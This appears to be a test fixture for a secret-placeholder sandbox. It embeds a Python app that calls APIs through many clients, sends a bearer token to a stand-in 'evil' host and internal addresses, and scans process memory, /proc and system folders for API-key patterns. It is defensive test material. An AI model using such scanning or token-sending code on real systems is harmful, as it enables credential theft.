// An app that calls public hosts by every client, and tells what it was answered, what it sent, and what it finds wherever it can read.
import { PLAYED } from '@holdfast/door/played/values';
import { INNER, NEAR } from '../harness/outside.ts';

const REGION = 'us-east-1';

const CALLS = `
import asyncio, os, subprocess, tempfile

MODELS = "https://${PLAYED.openai}/v1/models"
BEARER = {"Authorization": "Bearer " + os.environ["OPENAI_API_KEY"]}
ASK = {"model": "m", "messages": [{"role": "user", "content": "hi"}]}
# As a client prepared them, before they left.
sent = {}

def by_openai():
    from openai import OpenAI
    client = OpenAI()
    whole = client.chat.completions.create(**ASK).choices[0].message.content
    parts = client.chat.completions.create(**ASK, stream=True)
    return whole + ", " + "".join(part.choices[0].delta.content or "" for part in parts)

def by_anthropic():
    import anthropic
    return anthropic.Anthropic().messages.create(max_tokens=5, **ASK).content[0].text

def by_requests():
    import requests
    answer = requests.get(MODELS, headers=BEARER)
    sent["requests"] = answer.request.headers["Authorization"]
    return answer.text

def by_httpx():
    import httpx
    answer = httpx.get(MODELS, headers=BEARER)
    sent["httpx"] = answer.request.headers["authorization"]
    return answer.text

def by_aiohttp():
    import aiohttp
    async def ask(trust_env):
        async with aiohttp.ClientSession(trust_env=trust_env) as session:
            async with session.get(MODELS, headers=BEARER) as answer:
                return await answer.text()
    # By default it knows no proxy.
    told, untold = asyncio.run(ask(True)), asyncio.run(ask(False))
    return told if told == untold else told + ", but without a proxy " + untold

def by_boto3():
    import boto3
    s3 = boto3.client("s3", region_name="${REGION}", endpoint_url="https://${PLAYED.aws}")
    listed = s3.list_objects_v2(Bucket="bucket", Prefix="a b/c=d")["Contents"][0]["Key"]
    s3.put_object(Bucket="bucket", Key="a b.txt", Body=b"x" * 100_000)
    bedrock = boto3.client("bedrock-runtime", region_name="${REGION}")
    return listed + ", " + bedrock.invoke_model(modelId="m:0", body="{}")["body"].read().decode()

def by_huggingface_hub():
    from huggingface_hub import HfApi
    return HfApi().whoami()["name"]

def said_by(*command):
    done = subprocess.run(command, capture_output=True, text=True, timeout=60)
    return done.stdout.strip() or done.stderr

def by_node():
    return said_by("node", "-e", """
        const headers = { authorization: "Bearer " + process.env.OPENAI_API_KEY };
        fetch(process.argv[1], { headers }).then((answer) => answer.text()).then(console.log);
    """, MODELS)

def by_curl():
    return said_by("curl", "-sS", "-H", "Authorization: Bearer " + os.environ["OPENAI_API_KEY"], MODELS)

def by_git():
    folder = tempfile.mkdtemp()
    said = said_by("git", "clone", "-q", "https://x:" + os.environ["GITHUB_TOKEN"] + "@${PLAYED.git}/repo.git", folder + "/one")
    return said or open(folder + "/one/file.txt").read()

CLIENTS = [by_openai, by_anthropic, by_requests, by_httpx, by_aiohttp, by_boto3, by_huggingface_hub, by_node, by_curl, by_git]

def attempt(act):
    try:
        return act()
    except Exception as error:
        return repr(error)

def call_all():
    return {"said": {client.__name__: attempt(client) for client in CLIENTS}, "sent": sent}

def stray():
    """Where the placeholder is worth nothing, and where no app comes."""
    import requests
    def ask(where):
        return requests.get(where, headers=BEARER, verify=False).status_code
    return {where: attempt(lambda: ask(where)) for where in
        ("https://${PLAYED.evil}/x", "https://${PLAYED.anthropic}/x", "http://${NEAR}/x", "http://${INNER}/x")}
`;

/** Looks for what looks like a key wherever the app can read, and tells what it found by digest. */
const LOOK = `
import hashlib, os, re

KEY = re.compile(rb"(?:sk-proj-|sk-ant-api03-|ghp_|hf_)[A-Za-z0-9_-]{20,}")
MOST = 64 * 1024 * 1024

def digest(raw):
    return hashlib.sha256(raw).hexdigest()

def read(path):
    try:
        with open(path, "rb") as file:
            return file.read(MOST)
    except OSError:
        return b""

def memories():
    for line in open("/proc/self/maps"):
        place, rights = line.split()[:2]
        if not rights.startswith("rw"):
            continue
        first, last = (int(part, 16) for part in place.split("-"))
        try:
            with open("/proc/self/mem", "rb", buffering=0) as memory:
                memory.seek(first)
                yield memory.read(min(last - first, MOST))
        except (OSError, OverflowError, ValueError):
            pass

def everything():
    for process in os.listdir("/proc"):
        if process.isdigit():
            for name in ("environ", "cmdline"):
                yield read(f"/proc/{process}/{name}")
    for top in ("/run", "/tmp", "/home", "/etc", "/var", "/dev/shm", os.getcwd(), os.path.expanduser("~")):
        for folder, _, names in os.walk(top):
            for name in names:
                path = os.path.join(folder, name)
                if os.path.isfile(path):
                    yield read(path)
    yield from memories()

def look():
    found = {digest(key) for raw in everything() for key in KEY.findall(raw)}
    return {
        "found": sorted(found),
        "held": {name: digest(os.environ[name].encode()) for name in
            ("OPENAI_API_KEY", "ANTHROPIC_API_KEY", "AWS_SECRET_ACCESS_KEY", "GITHUB_TOKEN", "HF_TOKEN")},
        "variable": digest(os.environ["PLAIN"].encode()),
        "file": digest(open(os.environ["FILED_FILE"], "rb").read()),
        "beside": sorted(name for name in os.environ if name in ("FILED", "PLAIN_FILE")),
    }
`;

const APP = `
import http.server, json, os
import calls, looking

PAGES = {"/calls": calls.call_all, "/stray": calls.stray, "/look": looking.look}

class Page(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        act = PAGES.get(self.path, dict)
        body = json.dumps(act()).encode()
        self.send_response(200)
        self.send_header("content-length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

http.server.ThreadingHTTPServer(("127.0.0.1", int(os.environ["GRADIO_SERVER_PORT"])), Page).serve_forever()
`;
/** Its repository. */
export const FILES = {
  'README.md': '---\nsdk: gradio\n---\n',
  // As the app that tries out packages of Debian has them, so that one root serves both.
  'packages.txt': 'cowsay\ncurl\nnodejs\n',
  'requirements.txt': 'aiohttp==3.14.5\nanthropic==2.14.0\nboto3==1.44.8\nopenai==3.57.0\nrequests==2.34.2\n',
  'app.py': APP,
  'calls.py': CALLS,
  'looking.py': LOOK,
};
